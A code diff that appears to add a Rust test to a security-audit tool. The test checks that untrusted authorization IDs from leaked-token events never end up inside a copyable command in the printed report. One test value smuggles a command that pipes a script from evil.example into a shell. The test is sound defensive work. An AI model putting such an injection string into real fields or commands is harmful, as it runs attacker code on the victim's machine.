@@ -173,6 +173,21 @@ fn a_summary_is_never_larger_than_it_may_be() {
     );
 }
 
+#[test]
+fn a_command_to_copy_holds_an_id_and_nothing_else_of_a_stranger() {
+    for id in ["x\"; curl evil.example | sh; \"", "--all", "0b9c4cf5", ""] {
+        let leak = with_data(
+            event(1, "Token.PatPublicDiscoveryEvent"),
+            &[("AuthorizationId", id)],
+        );
+        let mut tally = tally(&settings());
+        tally.take(&acme(), vec![leak]);
+        let text = printed(&tally.finish(&[read(&acme())], run()));
+        assert!(!text.contains("--authorization-ids"), "{text}");
+        assert!(text.contains("docs/incident.md says how to find it"), "{text}");
+    }
+}
+
 /// Puts the text wherever a stranger's can come to stand.
 fn poisoned(text: &str) -> AuditReport {
     let mut report = bad_day();
